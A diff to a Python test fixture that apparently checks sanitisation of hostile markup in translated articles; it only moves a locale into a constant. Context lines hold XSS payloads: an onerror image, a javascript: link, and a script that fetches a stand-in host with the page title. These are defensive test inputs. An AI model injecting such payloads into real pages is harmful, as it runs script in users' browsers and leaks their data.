@@ -81,6 +81,7 @@ DRIFTS = {
 STRUCK = "window.struck=1;fetch('https://elsewhere.example/'+document.title)"
 # An answer has sentences of three articles at most.
 HOSTILE_QUESTIONS = ("zebra stripes zebra", "zebra stripes 3 iframe srcdoc")
+HOSTILE_LOCALE = "fr-fr"
 HOSTILE_ODD_QUESTION = "Does Norway tax the zebra stripes that we got?"
 HOSTILE_MARKUP = (
     f'<img src=x onerror="{STRUCK}">',
@@ -121,7 +122,7 @@ def _hostile_article(number: int) -> FakeArticle:
     target = f"Die zebra stripes zebra {number} {markup} [zebra](javascript:{STRUCK})"
     return FakeArticle(
         _hostile_path(number),
-        "de-de",
+        HOSTILE_LOCALE,
         f"zebra {markup}",
         [("top", f"stripes {markup}", [(target, f"The zebra stripes {number} {markup}")])],
         date(2021, 5, 18),
@@ -131,7 +132,7 @@ def _hostile_article(number: int) -> FakeArticle:
 
 def _hostile_drifts() -> dict[tuple[str, str], Drift]:
     return {
-        ("de-de", _hostile_path(number)): Drift("en-us", date(2024, 5, 14), True, markup)
+        (HOSTILE_LOCALE, _hostile_path(number)): Drift("en-us", date(2024, 5, 14), True, markup)
         for number, markup in enumerate(HOSTILE_MARKUP)
     }
 
